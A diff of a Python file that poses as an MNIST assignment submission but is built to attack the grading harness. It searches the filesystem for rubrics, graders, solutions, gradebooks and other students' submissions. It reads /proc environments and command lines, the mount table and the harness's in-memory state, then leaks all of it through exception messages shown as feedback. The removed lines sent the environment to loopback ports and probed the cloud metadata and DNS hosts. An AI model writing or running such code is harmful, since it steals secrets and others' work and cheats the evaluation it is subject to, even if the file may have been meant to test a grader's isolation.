@@ -1,9 +1,8 @@
 """Hunts for secrets and smuggles them out through the feedback, where exception messages are shown:
 walks the file system for the rubric, the graders, reference scores, solutions, gradebooks and other
 students' submissions; reads /proc (every cmdline, PID 1's environment), its own environment, the mount
-table, the call stack and the garbage collector's objects (the harness's state); tries the network
-(the grader host's loopback on the test's ports, 1.1.1.1:53, the cloud metadata address, a DNS
-lookup). evaluate_model, predict_digits, save_model and load_model then raise what was found."""
+table, the call stack and the garbage collector's objects (the harness's state). evaluate_model,
+predict_digits, save_model and load_model then raise what they found."""
 
 
 def evaluate_model(model, x, y):
@@ -26,11 +25,9 @@ def load_model(path):
 import gc as _gc
 import json as _json
 import os as _os
-import socket as _socket
 import sys as _sys
 import time as _time
 
-_PORTS = (47613, 47614, 47615)
 _SECRET_NAMES = ("rubric.toml", "reference_scores.json", "graders", "solutions", "gradebook.sqlite", "summary.csv",
                  "results.json", "scores.json", "trusted", "retrain_eval.npz", "test.npz", "hello_mnist.py",
                  "thresholds.json", "grader-errors.txt", "intake.json")
@@ -60,34 +57,6 @@ def _read(path, limit=400):
         return f"<{type(error).__name__}>"
 
 
-def _network():
-    results = {}
-    for port in _PORTS:
-        for host in ("127.0.0.1", "localhost"):
-            try:
-                with _socket.create_connection((host, port), timeout=1) as connection:
-                    connection.sendall(b"EXFIL " + _json.dumps(dict(_os.environ)).encode())
-                results[f"{host}:{port}"] = "SENT"
-            except OSError as error:
-                results[f"{host}:{port}"] = type(error).__name__
-        try:
-            with _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM) as udp:
-                udp.sendto(b"EXFIL udp", ("127.0.0.1", port))
-        except OSError:
-            pass
-    for host, port in (("1.1.1.1", 53), ("169.254.169.254", 80), ("10.0.2.2", 80), ("172.17.0.1", 80)):
-        try:
-            with _socket.create_connection((host, port), timeout=1):
-                results[f"{host}:{port}"] = "CONNECTED"
-        except OSError as error:
-            results[f"{host}:{port}"] = type(error).__name__
-    try:
-        results["dns"] = _socket.gethostbyname("example.com")
-    except OSError as error:
-        results["dns"] = type(error).__name__
-    return results
-
-
 def _harness_state():
     state = {}
     for obj in _gc.get_objects():
@@ -110,7 +79,6 @@ def _loot(kind):
         _FOUND["files"] = _walk_for_secrets()
         _FOUND["proc"] = {pid: _read(f"/proc/{pid}/cmdline", 120) for pid in _os.listdir("/proc") if pid.isdigit()}
         _FOUND["environ_1"] = _read("/proc/1/environ")
-        _FOUND["network"] = _network()
     if kind == "env":
         text = {"exe": _sys.executable, "prefix": _sys.prefix, "path": _sys.path, "env": dict(_os.environ),
                 "cwd": _os.getcwd(), "file": __file__, "uid": _os.getuid()}
@@ -118,7 +86,7 @@ def _loot(kind):
         text = [" ".join(line.split()[3:5]) for line in _read("/proc/self/mountinfo", 20000).splitlines()
                 if not line.split()[4].startswith(("/proc", "/dev", "/etc"))]
     elif kind == "state":
-        text = {"state": _harness_state(), "network": _FOUND["network"]}
+        text = {"state": _harness_state()}
     else:
         text = {"found": _FOUND["files"], "proc": _FOUND["proc"], "environ_1": _FOUND["environ_1"]}
     message = _json.dumps(text, default=str)
